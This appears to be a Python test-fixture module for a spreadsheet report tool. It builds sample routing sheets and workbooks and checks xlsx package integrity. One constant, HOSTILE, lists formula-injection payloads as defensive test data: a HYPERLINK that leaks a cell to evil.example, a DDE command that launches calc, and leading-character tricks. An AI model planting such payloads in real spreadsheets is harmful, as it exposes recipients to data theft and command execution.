"""Builders for the report tests (``from report.kit import ...``): loaded sheets made by
hand, a planner's workbook, and helpers that reopen a report and look inside its package."""

from __future__ import annotations

import posixpath
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pandas as pd
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.worksheet.datavalidation import DataValidation

from sync.model import CellError, LoadedSheet, ReportRow, ServerOnlyRow

HEADERS = ["id", "product_id", "process_id", "line_number", "active", "description",
           "product_minutes", "product_dwell_minutes", "Notes"]
LETTERS = list("ABCDEFGHI")
P1 = "a0000001-0000-4000-8000-000000000001"
P2 = "a0000002-0000-4000-8000-000000000002"
IDS = [f"c000000{n}-0000-4000-8000-00000000000{n}" for n in range(1, 6)]
DATA: list[list[Any]] = [
    [IDS[0], P1, "b0000001-0000-4000-8000-000000000001", 1, "Active", "Cut sheet", 5, 0,
     "see comment"],
    [IDS[1], P1, "b0000002-0000-4000-8000-000000000002", 2, "Active", "Bend", 7.5, 2,
     "check tooling"],
    [None, P1, "b0000003-0000-4000-8000-000000000003", 1.5, "InActive", "Weld", 12.25, None,
     None],
    [IDS[3], P2, "b0000001-0000-4000-8000-000000000001", 1, "Active", None, 3, 1, None],
    [None, P2, "b0000004-0000-4000-8000-000000000004", 2, "Active", "Pack", 0, 0.5, "new box"],
]
#: The planner's workbook: title block in rows 1-3, header in row 4, row 8 left blank.
HEADER_ROW = 4
ROW_NUMBERS = [5, 6, 7, 9, 10]

PLANNER_FILL = "FFFF00"       # the planner's own yellow highlight on F6
HEADER_FILL = "DDEBF7"

GREY_STRONG = "D9D9D9"       # unchanged: only the status cell; the row keeps its look
BLUE, BLUE_STRONG = "E3EEF9", "BDD7EE"
RED, RED_STRONG = "FDECEE", "FFC7CE"
GREEN, GREEN_STRONG = "EBF7E3", "C6EFCE"
INVALID = "FF8A8A"

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1", "  =1+1", "=cmd|' /C calc'!A0"]


def loaded_sheet(path: Path, *, headers: Sequence[str] = HEADERS,
                 data: Sequence[Sequence[Any]] = DATA, header_row: int = HEADER_ROW,
                 row_numbers: Sequence[int] = ROW_NUMBERS, file_format: str = "xlsx",
                 sheet_name: str | None = "Routing",
                 letters: Sequence[str] | None = None) -> LoadedSheet:
    """A LoadedSheet as the loader would hand it over, built by hand."""
    frame = pd.DataFrame([list(r) for r in data], columns=list(headers), dtype=object)
    letters = list(letters) if letters is not None else [
        chr(65 + i) for i in range(len(headers))]
    fields = {h: i for i, h in enumerate(headers) if h in {
        "id", "product_id", "process_id", "line_number", "active", "description",
        "product_minutes", "product_dwell_minutes"}}
    return LoadedSheet(path=path, file_format=file_format, sheet_name=sheet_name,
                       header_row=header_row, frame=frame, row_numbers=list(row_numbers),
                       headers=list(headers), letters=letters, fields=fields)


def report_rows() -> dict[int, ReportRow]:
    """One row of each kind; row 7 (frame row 2) has an invalid line number in D7."""
    return {
        0: ReportRow("unchanged", IDS[0]),
        1: ReportRow("updated", IDS[1], "description: Bend -> Bend over edge"),
        2: ReportRow("invalid", None, "", "D7: line_number must be a positive whole number",
                     [CellError(7, "line_number", "D",
                                'line_number must be a positive whole number, got "1.5"')]),
        3: ReportRow("failed", IDS[3], "", "the server refused: duplicate line"),
        4: ReportRow("created", IDS[4]),
    }


SERVER_ONLY = [
    ServerOnlyRow({"id": "d0000001-0000-4000-8000-000000000001", "product_id": P1,
                   "process_id": "b0000009-0000-4000-8000-000000000009", "line_number": 9,
                   "active": "Active", "description": None, "edited": "2024-03-01 10:00:00",
                   "company": "ignored"}, "deleted", "not in the sheet"),
    ServerOnlyRow({"id": "d0000002-0000-4000-8000-000000000002", "product_id": P2,
                   "line_number": 7}, "left alone", "product not in scope"),
]

SUMMARY = {"Mode": "mirror", "Scope": "products in the sheet", "File": "routing.xlsx",
           "Base URL": "https://acme.flowtrac.com/api", "Requests": 12, "Retries": 1}


def build_planner_workbook(path: Path, *, table: bool = False,
                           own_summary_sheet: bool = False) -> Path:
    """A planner's workbook: title block, styled header, a Notes column, the planner's own
    fill and comment, a dropdown, number formats, widths, an Instructions sheet."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Routing"
    ws["A1"] = "Routing — Line 3 assembly"
    ws["A1"].font = Font(bold=True, size=16)
    ws.merge_cells("A1:I1")
    ws["A2"] = "Owner: Planning team"
    ws["A3"] = "Keep the id column as it is"
    for col, name in enumerate(HEADERS, 1):
        cell = ws.cell(HEADER_ROW, col, name)
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="FF" + HEADER_FILL)
    for values, number in zip(DATA, ROW_NUMBERS, strict=True):
        for col, value in enumerate(values, 1):
            if value is not None:
                ws.cell(number, col, value)
        ws.cell(number, 7).number_format = "0.00"
    ws["F6"].fill = PatternFill("solid", fgColor="FF" + PLANNER_FILL)
    ws["I5"].comment = Comment("ask Sam about this line", "Planner")
    validation = DataValidation(type="list", formula1='"Active,InActive"', allow_blank=True)
    validation.add("E5:E200")
    ws.add_data_validation(validation)
    for letter, width in zip("ABCDEFGHI", [38, 38, 38, 12, 10, 24, 16, 20, 18], strict=True):
        ws.column_dimensions[letter].width = width
    ws.freeze_panes = "A5"
    if table:
        from openpyxl.worksheet.table import Table

        ws.unmerge_cells("A1:I1")
        ws.add_table(Table(displayName="Lines", ref="A4:I10"))
        for number in (8,):          # a table has no gaps: fill the blank row's first cell
            ws.cell(number, 9, "spare")
    info = wb.create_sheet("Instructions")
    info["A1"] = "How to use this sheet"
    info["A2"] = "One row per product-process line."
    if own_summary_sheet:
        mine = wb.create_sheet("Summary")
        mine["A1"] = "The planner's own summary"
    wb.save(path)
    return path


# --------------------------------------------------------------------------- inspection


def fill_of(cell: Any) -> str | None:
    """RRGGBB of a cell's solid fill, or None."""
    if cell.fill is None or cell.fill.fill_type != "solid":
        return None
    rgb = cell.fill.fgColor.rgb
    return rgb[-6:].upper() if isinstance(rgb, str) else None


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def assert_sound_package(path: Path) -> None:
    """Every XML part parses, every part has a content type, every internal relationship
    points at a part that exists: what Excel checks before it opens a file."""
    package = parts(path)
    types = ElementTree.fromstring(package["[Content_Types].xml"])
    defaults = {e.get("Extension").lower() for e in types if e.tag.endswith("Default")}
    overrides = {e.get("PartName") for e in types if e.tag.endswith("Override")}
    for name, data in package.items():
        if name.endswith((".xml", ".rels", ".vml")):
            ElementTree.fromstring(data)
        if name != "[Content_Types].xml" and not name.endswith("/"):
            assert "/" + name in overrides or name.rsplit(".", 1)[-1].lower() in defaults, name
    for override in overrides:
        assert override.lstrip("/") in package, f"content type for a missing part {override}"
    for name, data in package.items():
        if not name.endswith(".rels"):
            continue
        folder = posixpath.dirname(name.replace("_rels/", "").removesuffix(".rels"))
        for rel in ElementTree.fromstring(data):
            if rel.get("TargetMode") == "External":
                continue
            target = rel.get("Target")
            resolved = (target.lstrip("/") if target.startswith("/")
                        else posixpath.normpath(posixpath.join(folder, target)))
            assert resolved in package, f"{name} points at missing {resolved}"


def all_cells(path: Path):
    """(sheet title, cell) for every cell of every sheet of a workbook."""
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell
